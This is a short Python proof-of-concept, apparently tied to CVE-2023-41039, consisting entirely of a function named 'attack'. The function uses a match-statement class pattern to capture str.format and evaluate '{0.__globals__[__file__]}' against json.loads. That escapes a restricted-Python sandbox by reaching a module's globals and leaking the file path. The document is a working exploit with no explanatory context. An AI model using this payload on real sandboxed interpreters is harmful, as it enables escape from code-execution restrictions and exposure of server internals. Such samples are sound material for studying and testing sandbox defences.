# The method is read by a pattern.
# after: interpreter
# source: CVE-2023-41039 (GHSA-xjw2-6jm9-rf67)
import json
def attack(**_):
    match "{0.__globals__[__file__]}":
        case str(format=f):
            return {"text": f(json.loads)}
